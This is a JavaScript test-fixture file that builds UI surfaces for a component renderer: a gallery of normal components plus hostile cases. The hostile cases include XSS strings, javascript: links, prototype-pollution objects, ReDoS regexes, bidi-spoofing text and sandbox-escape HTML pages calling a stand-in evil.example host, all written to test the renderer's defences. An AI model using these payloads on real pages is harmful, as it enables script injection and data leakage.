// Surfaces for the tests in a browser: one of each component, and the hostile ones.

/** A surface in its compact form. @param {string} name @param {any[]} components @param {any} [data] @param {object} [more] */
export function surface(name, components, data, more = {}) {
  const version = 'v0.9';
  return {
    surface: name, rev: 1, title: name, pinned: false, at: '2026-01-01T00:00:00Z', ...more,
    messages: [
      { version, createSurface: { surfaceId: name, catalogId: 'plexus:catalog/1' } },
      { version, updateComponents: { surfaceId: name, components } },
      ...(data === undefined ? [] : [{ version, updateDataModel: { surfaceId: name, path: '/', value: data } }]),
    ],
  };
}

/** Components with ids of their own under one column. @param {any[]} parts */
const stack = (...parts) => [{ id: 'root', component: 'Column', children: parts.map((_, n) => `p${n}`) }, ...parts.map((part, n) => ({ id: `p${n}`, ...part }))];
const text = (/** @type {string} */ id, /** @type {any} */ value, /** @type {object} */ more = {}) => ({ id, component: 'Text', text: value, ...more });

/** A PNG of 10x10 pixels. */
export const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC';
/** Half a second of silence. */
const WAV = `data:audio/wav;base64,${Buffer.concat([Buffer.from('RIFF$\x10\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0@\x1f\0\0@\x1f\0\0\x01\0\b\0data\0\x10\0\0', 'latin1'), Buffer.alloc(4096, 128)]).toString('base64')}`;

const ICONS = ['accountCircle', 'add', 'arrowBack', 'arrowForward', 'attachFile', 'calendarToday', 'call', 'camera', 'check', 'close', 'delete', 'download', 'edit', 'event', 'error', 'fastForward', 'favorite', 'favoriteOff', 'folder', 'help', 'home', 'info', 'locationOn', 'lock', 'lockOpen', 'mail', 'menu', 'moreVert', 'moreHoriz', 'notificationsOff', 'notifications', 'pause', 'payment', 'person', 'phone', 'photo', 'play', 'print', 'refresh', 'rewind', 'search', 'send', 'settings', 'share', 'shoppingCart', 'skipNext', 'skipPrevious', 'star', 'starHalf', 'starOff', 'stop', 'upload', 'visibility', 'visibilityOff', 'volumeDown', 'volumeMute', 'volumeOff', 'volumeUp', 'warning'];

const DIFF = `diff --git a/src/parse.rs b/src/parse.rs
index 12ab..34cd 100644
--- a/src/parse.rs
+++ b/src/parse.rs
@@ -1,6 +1,7 @@
 fn parse(input: &[u8]) -> usize {
     let mut n = 0;
-    while n < input.len() - 1 {
+    // Stops at the first empty line.
+    while n < input.len() {
         n += 1;
     }
     n
`;

const LOG = '\x1b[1m\x1b[32m   Compiling\x1b[0m project v0.1.0 (/home/me/project)\n\x1b[1m\x1b[33mwarning\x1b[0m: unused variable: `n`\n\x1b[1m\x1b[32m    Finished\x1b[0m test profile in 3.41s\n     \x1b[1mRunning\x1b[0m unittests src/lib.rs\n\ntest parse::empty ... \x1b[32mok\x1b[0m\ntest parse::long ... \x1b[31mFAILED\x1b[0m\n\nfailures: \x1b[38;5;208mparse::long\x1b[0m at \x1b[4msrc/parse.rs:41\x1b[0m\n';

const wave = (/** @type {number} */ count, /** @type {number} */ by, /** @type {number} */ high) => Array.from({ length: count }, (_, n) => Math.round((Math.sin(n / by) * 0.5 + 0.6 + ((n * 37) % 11) / 60) * high * 10) / 10);

export const rowsOf = (/** @type {number} */ count) => Array.from({ length: count }, (_, n) => ({
  name: `suite_${(n * 7919) % count}::case_${n}`, state: ['passed', 'passed', 'passed', 'failed', 'skipped'][n % 5], seconds: ((n * 37) % 4000) / 100, bytes: (n * 104_729) % 50_000_000, part: ((n * 13) % 100) / 100, at: new Date(1_764_000_000_000 + n * 60_000).toISOString(),
}));
const COLUMNS = [{ key: 'name', label: 'Test' }, { key: 'state', label: 'State' }, { key: 'seconds', label: 'Time', format: 'duration' }, { key: 'bytes', label: 'Memory', format: 'bytes' }, { key: 'part', label: 'Covered', format: 'percent' }, { key: 'at', label: 'Began', format: 'datetime' }];

export const HTML_PAGE = `<!doctype html><meta charset=utf-8><style>body{font:14px system-ui;margin:12px}</style><h1>A clock</h1><button id=b>Stop the build</button><p id=p></p>
<script>document.getElementById('b').onclick=()=>parent.postMessage({action:'stop'},'*');document.getElementById('p').textContent='origin '+self.origin;</script>`;

/** A surface for each group of components. */
export const GALLERY = {
  build: surface('build', [
    { id: 'root', component: 'Column', children: ['head', 'nums', 'bar', 'line', 'buttons'] },
    { id: 'head', component: 'Row', justify: 'spaceBetween', align: 'center', children: ['title', 'state'] },
    text('title', { call: 'formatString', args: { value: 'Build ${/build/number} of **${/branch}**' } }, { variant: 'body' }),
    { id: 'state', component: 'Progress', value: { path: '/done' }, label: 'Tests', weight: 1 },
    { id: 'nums', component: 'Row', children: ['n1', 'n2', 'n3'] },
    ...['Passed', 'Failed', 'Skipped'].flatMap((name, n) => [
      { id: `n${n + 1}`, component: 'Card', child: `n${n + 1}c`, weight: 1 },
      { id: `n${n + 1}c`, component: 'Column', children: [`n${n + 1}a`, `n${n + 1}b`] },
      text(`n${n + 1}a`, { call: 'formatNumber', args: { value: { path: `/counts/${n}` } } }, { variant: 'h2' }),
      text(`n${n + 1}b`, name, { variant: 'caption' }),
    ]),
    { id: 'bar', component: 'Chart', kind: 'bar', title: 'Time of the slowest suites', unit: 's', labels: ['store', 'router', 'dialects', 'tui', 'protocol'], series: [{ label: 'before', values: [41, 32.5, 20, 11, 4] }, { label: 'after', values: { path: '/after' } }] },
    { id: 'line', component: 'Chart', kind: 'line', title: 'Memory', unit: 'MiB', series: [{ label: 'gateway', values: { path: '/memory' } }, { label: 'agent', values: wave(60, 5, 40) }] },
    { id: 'buttons', component: 'Row', children: ['ok', 'again', 'docs'] },
    { id: 'ok', component: 'Button', variant: 'primary', child: 'okt', action: { event: { name: 'merge', context: { branch: { path: '/branch' } } } } }, text('okt', 'Merge it'),
    { id: 'again', component: 'Button', child: 'againt', action: { event: { name: 'again' } } }, text('againt', 'Run again'),
    { id: 'docs', component: 'Button', variant: 'borderless', child: 'docst', action: { functionCall: { call: 'openUrl', args: { url: 'https://docs.example.org/build?run=1' } } } }, text('docst', 'Documentation'),
  ], { build: { number: 412 }, branch: 'fix/parser', done: 0.62, counts: [1284, 3, 17], after: [30, 28, 12, 11.5, 2], memory: wave(60, 9, 80) }, { title: 'Build of the parser', pinned: true }),

  form: surface('form', [
    { id: 'root', component: 'Column', children: ['intro', 'name', 'mail', 'about', 'secret', 'agree', 'size', 'tags', 'level', 'day', 'when', 'at', 'go'] },
    text('intro', 'Tell me how to release it.', { variant: 'h3' }),
    { id: 'name', component: 'TextField', label: 'Name of the release', value: { path: '/name' }, checks: [{ condition: { call: 'required', args: { value: { path: '/name' } } }, message: 'A name is needed.' }, { condition: { call: 'regex', args: { value: { path: '/name' }, pattern: '^[a-z0-9.-]*$' } }, message: 'Only a-z, 0-9, dots and dashes.' }] },
    { id: 'mail', component: 'TextField', label: 'Who to tell', value: { path: '/mail' }, checks: [{ condition: { call: 'email', args: { value: { path: '/mail' } } }, message: 'This is no mail address.' }] },
    { id: 'about', component: 'TextField', label: 'Notes', variant: 'longText', value: { path: '/about' }, accessibility: { description: 'Markdown is fine.' } },
    { id: 'secret', component: 'TextField', label: 'Registry token', variant: 'obscured', value: { path: '/token' } },
    { id: 'agree', component: 'CheckBox', label: 'Push the tag as well', value: { path: '/agree' } },
    { id: 'size', component: 'ChoicePicker', label: 'Kind', value: { path: '/kind' }, options: [{ label: 'Patch', value: 'patch' }, { label: 'Minor', value: 'minor' }, { label: 'Major', value: 'major' }] },
    { id: 'tags', component: 'ChoicePicker', label: 'Platforms', variant: 'multipleSelection', displayStyle: 'chips', filterable: true, value: { path: '/platforms' }, options: ['Linux', 'macOS', 'Windows', 'FreeBSD'].map((label) => ({ label, value: label.toLowerCase() })) },
    { id: 'level', component: 'Slider', label: 'Share of users', min: 0, max: 100, value: { path: '/share' } },
    { id: 'day', component: 'DateTimeInput', label: 'Day', enableDate: true, value: { path: '/day' } },
    { id: 'when', component: 'DateTimeInput', label: 'Not before', enableDate: true, enableTime: true, value: { path: '/when' } },
    { id: 'at', component: 'DateTimeInput', label: 'Time', enableTime: true, value: { path: '/time' } },
    { id: 'go', component: 'Button', variant: 'primary', child: 'got', action: { event: { name: 'submit' } } }, text('got', 'Release'),
  ], { name: 'v1.2', mail: 'ada@example.org', about: '', token: '', agree: true, kind: ['minor'], platforms: ['linux', 'macos'], share: 25, day: '2026-03-01', when: '2026-03-01T08:30:00Z', time: '08:30' }, { title: 'Release', ask: { request_id: 'q_1', submit: ['go'] } }),

  layout: surface('layout', [
    { id: 'root', component: 'Column', children: ['h', 'tabs', 'rule', 'list', 'across', 'modal', 'empty'] },
    text('h', 'Layout', { variant: 'h1' }),
    { id: 'tabs', component: 'Tabs', tabs: [{ title: 'First', child: 'one' }, { title: 'Second', child: 'two' }, { title: { path: '/third' }, child: 'three' }] },
    text('one', 'The first tab, with a [link](https://docs.rs/x) and `code`.'), text('two', 'The second tab.'), text('three', 'The third tab.'),
    { id: 'rule', component: 'Divider' },
    { id: 'list', component: 'List', children: { componentId: 'item', path: '/items' } },
    { id: 'item', component: 'Card', child: 'row' },
    { id: 'row', component: 'Row', align: 'center', children: ['ic', 'name', 'up', 'qty', 'del'] },
    { id: 'ic', component: 'Icon', name: { path: 'icon' } }, { ...text('name', { path: 'name' }), weight: 1 }, { id: 'up', component: 'Divider', axis: 'vertical' }, text('qty', { call: 'formatString', args: { value: '${count} ${pluralize(value: ${count}, one: \'file\', other: \'files\')}' } }, { variant: 'caption' }),
    { id: 'del', component: 'Button', variant: 'borderless', child: 'delicon', action: { event: { name: 'remove' } } }, { id: 'delicon', component: 'Icon', name: 'delete' },
    { id: 'across', component: 'List', direction: 'horizontal', children: { componentId: 'tile', path: '/items' } },
    { id: 'tile', component: 'Card', child: 'tilet' }, text('tilet', { path: 'name' }),
    { id: 'modal', component: 'Modal', trigger: 'open', content: 'inside' },
    { id: 'open', component: 'Button', child: 'opent', action: { event: { name: 'opened' } } }, text('opent', 'Details'),
    { id: 'inside', component: 'Column', children: ['insidet', 'insideb'] }, text('insidet', 'What is in the modal stays in the frame.'),
    { id: 'insideb', component: 'Button', child: 'insidebt', action: { event: { name: 'inside' } } }, text('insidebt', 'Do it'),
    { id: 'empty', component: 'List', children: { componentId: 'item', path: '/none' } },
  ], { third: 'Third', items: [{ name: 'A parser that reads headers', icon: 'check', count: 1 }, { name: 'Store', icon: 'folder', count: 12 }, { name: 'A name that is much longer than all of the others, so that it needs more than one line', icon: 'warning', count: 3 }] }, { title: 'Layout' }),

  media: surface('media', stack(
    { component: 'Row', children: ICONS.map((_, n) => `i${n}`), align: 'center' },
    { component: 'Image', url: PNG, description: 'A square', variant: 'smallFeature' },
    { component: 'Image', url: 'https://evil.example/beacon.png', description: 'From elsewhere' },
    { component: 'AudioPlayer', url: WAV, description: 'A sound' },
    { component: 'Video', url: 'https://evil.example/movie.mp4' },
    { component: 'Icon', name: { svgPath: 'M12 2 22 20H2Z' } },
    { component: 'Icon', name: 'noSuchIcon' },
    { component: 'Hologram', of: 'something new', depth: 3 },
  ).concat(ICONS.map((name, n) => ({ id: `i${n}`, component: 'Icon', name }))), undefined, { title: 'Pictures, sounds, icons' }),

  code: surface('code', stack(
    { component: 'Markdown', text: '# What I found\n\nThe loop **stops one byte early**.\n\n- in `parse_header`\n- in `read_line`\n\n### How to see it\n\n| case | before | after |\n|---|---|---|\n| empty | panic | error |\n\n> It was there from the beginning.\n\n```rust\nlet n = input.len();\n```\n' },
    { component: 'Code', language: 'rust', startLine: 40, code: 'fn parse_header(input: &[u8]) -> usize {\n    // Stops at the first empty line.\n    let name = "header";\n    input.len() + name.len() + 42\n}\n' },
    { component: 'Diff', path: 'src/parse.rs', diff: DIFF },
    { component: 'Diff', path: 'README.md', old: 'one\ntwo\nthree\n', new: 'one\n2\nthree\nfour\n' },
    { component: 'Terminal', text: { path: '/log' }, rows: 10 },
    { component: 'FileTree', entries: [{ path: 'src/parse.rs', status: 'modified', note: '+12 −3' }, { path: 'src/store/sqlite/open.rs', status: 'added' }, { path: 'src/store/sqlite/sweep.rs' }, { path: 'src/old.rs', status: 'deleted' }, { path: 'docs/a very long folder name that goes on/with a file.md', status: 'renamed', note: 'from docs/file.md' }, { path: 'README.md', status: 'same' }], onSelect: { event: { name: 'open' } } },
  ), { log: LOG }, { title: 'Code and changes' }),

  data: surface('data', stack(
    { component: 'Table', label: 'Tests', columns: COLUMNS, rows: { path: '/rows' }, sort: { key: 'seconds', descending: true }, filterable: true, onSelect: { event: { name: 'open' } } },
    { component: 'Chart', kind: 'scatter', title: 'Time by size', unit: 'ms', series: [{ label: 'reads', x: wave(40, 3, 900), values: wave(40, 4, 30) }, { label: 'writes', x: wave(30, 5, 700), values: wave(30, 2, 50) }] },
    { component: 'Chart', kind: 'sparkline', title: 'Requests', unit: '/s', series: [{ label: 'requests', values: wave(80, 6, 120) }] },
    { component: 'Chart', kind: 'bar', title: 'Balance', series: [{ label: 'change', values: [3, -2, 5, null, -4.5, 1] }] },
    { component: 'Progress', label: 'Unknown end' },
    { component: 'Progress', label: 'Upload', value: 1, state: 'done' },
    { component: 'Progress', label: 'Signing', value: 0.4, state: 'failed' },
    { component: 'Progress', label: 'Publishing', state: 'waiting' },
  ), { rows: rowsOf(400) }, { title: 'Numbers' }),

  page: surface('page', stack({ component: 'Html', html: HTML_PAGE, text: 'A clock with a button that stops the build.', actions: ['stop'], height: 220 }), undefined, { title: 'A page of its own' }),
};

const JS = 'window.__hostile=1';
/** Components that must not have an effect. */
export const HOSTILE = {
  links: surface('links', stack(
    { component: 'Button', child: 't', action: { functionCall: { call: 'openUrl', args: { url: `javascript:${JS}` } } } },
    { component: 'Button', child: 't', action: { functionCall: { call: 'openUrl', args: { url: 'data:text/html,<script>1</script>' } } } },
    { component: 'Button', child: 't', action: { functionCall: { call: 'openUrl', args: { url: 'https://good.example@evil.example/' } } } },
    { component: 'Button', child: 't', action: { functionCall: { call: 'formatString', args: { value: 'x' } } } },
    { component: 'Text', text: { call: 'openUrl', args: { url: 'https://evil.example/now' } } },
    { component: 'Text', text: `[press](javascript:${JS}) <img src=x onerror="${JS}"> ![p](https://evil.example/p.png)` },
    { component: 'Markdown', text: `<script>${JS}</script><svg onload="${JS}"><a href="javascript:${JS}">x</a>` },
  ).concat([text('t', 'Press')])),
  beacons: surface('beacons', stack(
    ...['https://evil.example/p.png', '//evil.example/p.png', 'blob:https://evil.example/1', 'file:///etc/passwd', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+', 'data:text/html,x'].flatMap((url) => [{ component: 'Image', url }, { component: 'Video', url }, { component: 'AudioPlayer', url }]),
    { component: 'Icon', name: { svgPath: 'M0 0"/><image href="https://evil.example/i.png"/>' } },
    { component: 'Icon', name: `"><img src=x onerror=${JS}>` },
  )),
  prototype: surface('prototype', [
    ...stack({ component: 'Text', text: { path: '/__proto__/polluted' } }, { component: 'TextField', label: 'x', value: { path: '/constructor/prototype/polluted' } }, { component: 'toString', text: 'x' }, { component: '__proto__' }, { component: 'Icon', name: 'constructor' }, { component: 'Progress', state: 'toString' }),
    { id: '__proto__', component: 'Text', text: 'never', polluted: true },
  ], JSON.parse('{"__proto__":{"polluted":"yes"},"a":1}')),
  circles: surface('circles', [
    { id: 'root', component: 'Column', children: ['a', 'root', 'b'] }, { id: 'a', component: 'Card', child: 'b' }, { id: 'b', component: 'Card', child: 'a' },
  ]),
  wide: surface('wide', [
    { id: 'root', component: 'Column', children: ['l0', 'l0'] }, ...Array.from({ length: 30 }, (_, n) => ({ id: `l${n}`, component: 'Column', children: [`l${n + 1}`, `l${n + 1}`] })), text('l30', 'x'),
  ]),
  deep: surface('deep', [
    { id: 'root', component: 'Column', children: ['d0'] }, ...Array.from({ length: 100 }, (_, n) => ({ id: `d${n}`, component: 'Card', child: `d${n + 1}` })), text('d100', 'bottom'),
  ]),
  items: surface('items', [
    { id: 'root', component: 'List', children: { componentId: 'one', path: '/items' } }, { id: 'one', component: 'List', children: { componentId: 'two', path: '/items' } }, text('two', { path: 'n' }),
  ], { items: Array.from({ length: 3_000 }, (_, n) => ({ n })) }),
  approval: surface('approval', stack(
    { component: 'Card', child: 'c' },
  ).concat([
    { id: 'c', component: 'Column', children: ['c1', 'c2', 'c3'] }, text('c1', 'gemini wants to run a command', { variant: 'h2' }), { id: 'c2', component: 'Code', code: 'rm -rf build' },
    { id: 'c3', component: 'Row', children: ['c4', 'c5'] }, { id: 'c4', component: 'Button', child: 'c6', action: { event: { name: 'deny' } } }, text('c6', 'Deny'), { id: 'c5', component: 'Button', variant: 'primary', child: 'c7', action: { event: { name: 'allow' } } }, text('c7', 'Allow once'),
  ]), undefined, { title: 'Approval request', ask: null }),
  long: surface('long', stack(
    { component: 'Text', text: 'x'.repeat(1 << 20) }, { component: 'Text', text: `**${'a b '.repeat(1 << 18)}` }, { component: 'Markdown', text: '[' .repeat(60_000) }, { component: 'Code', code: 'y'.repeat(1 << 20) }, { component: 'Terminal', text: 'z'.repeat(1 << 20) },
    { component: 'Diff', diff: '+'.repeat(1 << 20) }, { component: 'TextField', label: 'w'.repeat(1 << 20), value: { path: '/v' } }, { component: 'Button', child: 'bt', action: { event: { name: 'e'.repeat(1 << 20) } } }, { component: 'Table', columns: [{ key: 'a', label: 'l'.repeat(1 << 20) }], rows: [{ a: 'r'.repeat(1 << 20) }] },
    { component: 'Chart', kind: 'bar', title: 't'.repeat(1 << 20), labels: ['b'.repeat(1 << 20)], series: [{ label: 's'.repeat(1 << 20), values: [1e308, -1e308, 5] }] }, { component: 'FileTree', entries: [{ path: `${'d/'.repeat(5_000)}f`, note: 'n'.repeat(1 << 20) }] }, { component: 'Progress', label: 'p'.repeat(1 << 20), value: 1e9 },
  ).concat([text('bt', 'u'.repeat(1 << 20))]), { v: 'v'.repeat(1 << 20) }, { title: 'T'.repeat(5_000) }),
  slow: surface('slow', stack(
    ...['(a+)+$', '(a|a)*$', '(.*)*x', '([a-z]+)*\\d', '(a?){500}a{500}', '((a{50}){50}){50}', '^(([a-z])+.)+[A-Z]([a-z])+$', '(x+x+)+y', '(?=a)b', '(a)\\1'].map((pattern) => ({
      component: 'TextField', label: pattern, value: { path: '/a' }, validationRegexp: pattern, checks: [{ condition: { call: 'regex', args: { value: { path: '/a' }, pattern } }, message: 'no' }],
    })),
    { component: 'Text', text: { call: 'formatString', args: { value: '${'.repeat(2_000) } } },
    { component: 'Text', text: { call: 'formatString', args: { value: '${/big}'.repeat(5_000) } } },
    { component: 'Text', text: Array.from({ length: 200 }).reduce((/** @type {any} */ inner) => ({ call: 'not', args: { value: inner } }), true) },
  ), { a: `${'a'.repeat(990)}!`, big: 'b'.repeat(100_000) }),
  words: surface('words', stack(
    { component: 'Text', text: 'safe\u202eevil\u202c', variant: 'h2' }, { component: 'FileTree', entries: [{ path: 'src/\u202ecod.exe' }] }, { component: 'Code', code: 'a\u200bb\u202ec' }, { component: 'Table', columns: [{ key: 'a', label: 'A' }], rows: [{ a: 'x\u202ey' }] },
  ), undefined, { title: 'Plexus\u202e approval' }),
  malformed: surface('malformed', [
    { id: 'root', component: 'Column', children: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k', 'l', 7, null] },
    { id: 'a', component: 'Row', children: 'nothing' }, { id: 'b', component: 'Tabs', tabs: [null, 3, { child: 4 }] }, { id: 'c', component: 'ChoicePicker', options: [null, {}, { value: 1 }], value: 7 }, { id: 'd', component: 'Table', columns: [null, { key: 1 }], rows: [null, 1, 'x', []] },
    { id: 'e', component: 'Chart', kind: {}, series: [null, { values: 'x' }, { values: [NaN, 'x', {}] }], labels: 5 }, { id: 'f', component: 'FileTree', entries: [null, { path: '' }, { path: '///' }, { path: 3 }] }, { id: 'g', component: 'Slider', min: 5, max: 1, value: 'x' }, { id: 'h', component: 'DateTimeInput', value: { a: 1 } },
    { id: 'i', component: 'Button' }, { id: 'j', component: 'Progress', value: 'x', state: 5 }, { id: 'k', component: 'Modal' }, { id: 'l', component: 'Text', text: { call: 'noSuch', args: 3 } },
  ], { '': 1 }),
};

/** Pages of an agent that try to get out of their frame. */
export const HOSTILE_PAGES = [
  `<script>fetch('https://evil.example/f').catch(()=>0);new Image().src='https://evil.example/i';navigator.sendBeacon&&navigator.sendBeacon('https://evil.example/b');</script>`,
  `<script src="https://evil.example/s.js"></script><link rel=stylesheet href="https://evil.example/s.css"><iframe src="https://evil.example/"></iframe><form action="https://evil.example/" id=f><input name=a></form><script>f.submit()</script>`,
  `<script>try{top.location='https://evil.example/t'}catch(e){};try{open('https://evil.example/o')}catch(e){};try{parent.document.title='taken'}catch(e){};try{localStorage.a=1}catch(e){};alert(1)</script>`,
  `<script>location='https://evil.example/n'</script>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/m">`,
  `<script>for(const a of ['stop','__proto__','other',{},null,7,'x'.repeat(1e6)])parent.postMessage({action:a},'*');parent.postMessage('stop','*');parent.postMessage({html:'<b>x</b>',type:'surface-action',action:['stop']},'*')</script>`,
  `<script>new WebSocket('wss://evil.example/w');new EventSource('https://evil.example/e');new Worker('data:text/javascript,1');import('https://evil.example/m.js').catch(()=>0)</script>`,
];
